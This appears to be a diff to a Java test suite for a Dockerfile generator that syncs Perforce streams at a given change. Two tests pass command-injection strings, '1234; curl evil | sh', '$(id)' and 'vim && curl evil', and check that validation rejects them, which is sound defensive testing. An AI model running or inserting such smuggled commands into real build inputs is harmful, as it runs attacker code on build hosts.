@@ -40,7 +40,7 @@ class DockerfileTemplateTest {
   void perforceProjectsSyncTheirDepotPathAtTheChangeAndShareItWithTheWorkspaceGroupInOneLayer() {
     String dockerfile =
         template.render(
-            job(BuildSource.perforce("//depot/kernel/main/..."), List.of("curl", "vim"), List.of()),
+            job(BuildSource.perforce("//depot/kernel/..."), List.of("curl", "vim"), List.of()),
             "1234",
             null);
 
@@ -60,7 +60,7 @@ class DockerfileTemplateTest {
   void toolsAreInstalledByOneRunThatCallsAptOnlyForThoseTheBaseLacks() {
     String dockerfile =
         template.render(
-            job(BuildSource.perforce("//depot/kernel/main/..."), List.of("curl", "vim"), List.of()),
+            job(BuildSource.perforce("//depot/kernel/..."), List.of("curl", "vim"), List.of()),
             "1234",
             null);
 
@@ -114,12 +114,38 @@ class DockerfileTemplateTest {
   }
 
   @Test
-  void thePerforceSyncCommandLineIsTheDepotPathAtTheChangeOrAtHead() {
-    var source = BuildSource.perforce("//depot/kernel/main/...");
-    assertThat(DockerfileTemplate.perforceSync(source, "1234"))
+  void thePerforceSyncCommandLineIsTheParentsStreamAtTheChangeOrAtHead() {
+    var source = BuildSource.perforce("//depot/kernel/...");
+    assertThat(DockerfileTemplate.perforceSync(source, "main", "1234"))
         .containsExactly("p4", "sync", "//depot/kernel/main/...@1234");
-    assertThat(DockerfileTemplate.perforceSync(source, DockerfileTemplate.HEAD))
+    assertThat(DockerfileTemplate.perforceSync(source, "main", DockerfileTemplate.HEAD))
         .containsExactly("p4", "sync", "//depot/kernel/main/...#head");
+    assertThat(DockerfileTemplate.perforceSync(BuildSource.perforce("//kernel"), "rel-2", "77"))
+        .containsExactly("p4", "sync", "//kernel/rel-2/...@77");
+  }
+
+  @Test
+  void aPerforceBuildSyncsOnlyItsParentsStreamWhateverChangeItNames() {
+    var release =
+        BuildJob.of(
+            "bs-01jd0000000000000000000000",
+            "alice",
+            BuildKind.USER,
+            "kernel",
+            "release",
+            Arch.AMD64,
+            "1234",
+            new BuildSpec(
+                "a4c-base:bookworm",
+                List.of(),
+                List.of(),
+                BuildSource.perforce("//depot/kernel/...")),
+            Instant.parse("2026-11-24T16:00:00Z"));
+
+    assertThat(template.render(release, "1234", null))
+        .contains("\"p4\",\"sync\",\"//depot/kernel/release/...@1234\"]")
+        .doesNotContain("//depot/kernel/...@")
+        .doesNotContain("/main/");
   }
 
   @Test
@@ -145,7 +171,7 @@ class DockerfileTemplateTest {
 
   @Test
   void refusesShellCharactersInTheChangeEvenWhenTheJobWasMadeElsewhere() {
-    var job = job(BuildSource.perforce("//depot/kernel/main/..."), List.of(), List.of());
+    var job = job(BuildSource.perforce("//depot/kernel/..."), List.of(), List.of());
     assertThatThrownBy(() -> template.render(job, "1234; curl evil | sh", null))
         .hasMessageContaining("change");
     assertThatThrownBy(() -> template.render(job, "$(id)", null)).hasMessageContaining("change");
@@ -153,7 +179,7 @@ class DockerfileTemplateTest {
 
   @Test
   void aSpecWithShellCharactersCannotEvenBeMade() {
-    var source = BuildSource.perforce("//depot/kernel/main/...");
+    var source = BuildSource.perforce("//depot/kernel/...");
     assertThatThrownBy(
             () ->
                 new BuildSpec("a4c-base:bookworm", List.of("vim && curl evil"), List.of(), source))
@@ -173,7 +199,7 @@ class DockerfileTemplateTest {
 
   @Test
   void imagesGoToTheOneRepositoryTaggedByProjectParentArchAndChange() {
-    var job = job(BuildSource.perforce("//depot/kernel/main/..."), List.of(), List.of());
+    var job = job(BuildSource.perforce("//depot/kernel/..."), List.of(), List.of());
     assertThat(
             BuildRunner.imageRef(ImageRepository.parse("10.250.0.1:5000/a4c-images"), job, "1234"))
         .isEqualTo("10.250.0.1:5000/a4c-images:kernel_main_amd64_1234");
